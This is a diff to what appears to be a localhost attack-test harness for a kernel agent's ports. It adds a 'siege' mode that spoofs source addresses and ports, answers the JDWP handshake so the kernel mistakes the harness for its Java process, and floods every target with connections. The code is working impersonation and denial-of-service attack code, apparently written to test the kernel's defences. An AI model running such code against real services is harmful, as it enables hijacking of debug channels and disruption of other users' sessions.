@@ -6,8 +6,11 @@
 #   KERNEL_PID: only the agent of this kernel is attacked (other sessions on the machine are left alone)
 #   MODE steal: use a token found on the agent's command line (a wrong one if there is none)
 #   MODE blind: never use it: connect with a wrong secret, and with nothing at all
+#   MODE siege: from 127.0.0.2.. with the target port as source port (a look-up by port number alone then
+#               finds the kernel's own socket), hold connections silent (answer JDWP's handshake on the
+#               debug port), and flood every target with non-blocking connects (FLOOD_RATE a second)
 #   TARGET events | control | debug
-import os, socket, struct, sys, threading, time
+import collections, errno, os, socket, struct, sys, threading, time
 
 seconds, kernel, mode, targets = float(sys.argv[1]), sys.argv[2], sys.argv[3], set(sys.argv[4:])
 deadline = time.time() + seconds
@@ -124,6 +127,87 @@ def attack_debug(port):
     threading.Thread(target=drain, args=('debug', s), daemon=True).start()
 
 
+SPOOFED_SOURCES = 8
+FLOOD_RATE = 3000
+
+
+def spoof(name, port, address):
+    """Connects from address:port to the kernel's port, holds the connection silent, again when closed."""
+    held = 0
+    while time.time() < deadline:
+        s = socket.socket()
+        try:
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            s.bind((address, port))
+            s.settimeout(2)
+            s.connect(('127.0.0.1', port))
+        except OSError as e:
+            s.close()
+            if e.errno == errno.ECONNREFUSED:
+                say(name, 'from', address, 'held', held, 'connections until the port closed')
+                return
+            time.sleep(0.01)
+            continue
+        held += 1
+        if name == 'debug-spoof':
+            try:
+                hello = s.recv(14)
+                if hello == b'JDWP-Handshake':
+                    s.sendall(hello)
+                    say('debug HANDSHAKE done: the kernel takes us for the Java process')
+            except OSError:
+                pass
+        s.settimeout(None)
+        try:
+            while time.time() < deadline:
+                data = s.recv(65536)
+                if not data:
+                    break
+                say(name, 'RECEIVED', data.hex())
+        except OSError:
+            pass
+        s.close()
+
+
+def flood(ports):
+    """Non-blocking connects round the ports at FLOOD_RATE a second; says each second how many landed."""
+    held = collections.deque()
+    start = time.time()
+    tried = landed = 0
+    second, tried_then, landed_then = 1, 0, 0
+    paced, paced_tried = start, 0
+    while time.time() < deadline:
+        for port in ports:
+            s = socket.socket()
+            s.setblocking(False)
+            err = s.connect_ex(('127.0.0.1', port))
+            tried += 1
+            if err in (0, errno.EINPROGRESS):
+                landed += 1
+                held.append((time.time(), s))
+            else:
+                s.close()
+        while held and (len(held) > 4000 or held[0][0] < time.time() - 1):
+            held.popleft()[1].close()
+        now = time.time()
+        if now >= start + second:
+            say('FLOOD', second, 'tried', tried - tried_then, 'connected', landed - landed_then)
+            second, tried_then, landed_then = second + 1, tried, landed
+        ahead = paced + (tried - paced_tried) / FLOOD_RATE - now
+        if ahead > 0:
+            time.sleep(ahead)
+        elif ahead < -0.1:
+            paced, paced_tried = now, tried  # fell behind (a busy machine): no bursts to catch up
+
+
+
+def siege(ports):
+    for name, port in ports.items():
+        for i in range(SPOOFED_SOURCES):
+            threading.Thread(target=spoof, args=(name + '-spoof', port, '127.0.0.%d' % (2 + i)), daemon=True).start()
+    threading.Thread(target=flood, args=(list(ports.values()),), daemon=True).start()
+
+
 seen = set()
 while time.time() < deadline:
     for pid, args in agents():
@@ -140,6 +224,10 @@ while time.time() < deadline:
             if a.startswith('-agentlib:jdwp=') and 'address=' in a:
                 debug = int(a.split('address=', 1)[1].split(',')[0].rsplit(':', 1)[1])
         control = int(args[-1])
+        if mode == 'siege':
+            ports = {'debug': debug, 'control': control, 'events': events}
+            siege({name: port for name, port in ports.items() if name in targets and port})
+            continue
         if 'debug' in targets and debug:
             threading.Thread(target=attack_debug, args=(debug,), daemon=True).start()
         if 'control' in targets:
